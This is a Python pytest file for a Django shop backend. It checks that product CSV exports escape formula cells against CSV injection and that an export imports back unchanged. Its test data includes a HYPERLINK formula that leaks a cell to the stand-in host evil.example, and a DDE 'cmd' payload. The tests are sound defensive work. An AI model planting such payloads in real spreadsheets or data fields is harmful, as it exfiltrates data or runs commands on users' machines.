"""Item 5: the product export never hands a spreadsheet a formula (OWASP CSV injection), and imports back."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context

from tenant_apps.catalog.models import Product
from tenant_apps.catalog.services.imports import escape_formula

from ..catalog.conftest import role_client

TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "'quoted"]


def create(client, title: str, subtitle: str = "", tags=()) -> None:
    body = {"title": title, "subtitle": subtitle, "tags": list(tags), "skus": [{"price_amount": 100, "stock": 1}]}
    assert client.post("/api/v1/manage/products", body, content_type="application/json").status_code == 201


def export(client) -> str:
    response = client.get("/api/v1/manage/products/export")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("plain =1", "plain =1"),
        ("", ""),
        ("1200", "1200"),
    ],
)
def test_escape_formula(cell, written):
    assert escape_formula(cell) == written


def test_export_escapes_formula_cells_and_quotes_every_cell(manager_a):
    create(manager_a, TITLES[0], subtitle="=cmd", tags=["@tag", "ok"])

    text = export(manager_a)

    rows = list(csv.DictReader(io.StringIO(text)))
    assert (rows[0]["title"], rows[0]["subtitle"], rows[0]["tags"]) == ("'" + TITLES[0], "'=cmd", "'@tag|ok")
    data_line = text.splitlines()[1]
    assert data_line.startswith('"P') and data_line.endswith('"')  # every cell quoted


def test_an_export_imports_back_with_the_original_titles(
    manager_a,
    shop_a,
    shop_b,
    eager_celery,
    django_capture_on_commit_callbacks,
):
    for title in TITLES:
        create(manager_a, title)
    exported = export(manager_a)
    owner_b, _ = role_client(shop_b, "owner")

    with django_capture_on_commit_callbacks(execute=True):
        response = owner_b.post(
            "/api/v1/manage/products/import",
            {"file": SimpleUploadedFile("export.csv", exported.encode("utf-8-sig"), content_type="text/csv")},
        )

    assert response.status_code == 202
    job = owner_b.get(f"/api/v1/manage/products/imports/{response.json()['id']}").json()
    assert (job["status"], job["errors"]) == ("succeeded", [])
    with tenant_context(shop_b):
        assert sorted(Product.objects.values_list("title", flat=True)) == sorted(TITLES)
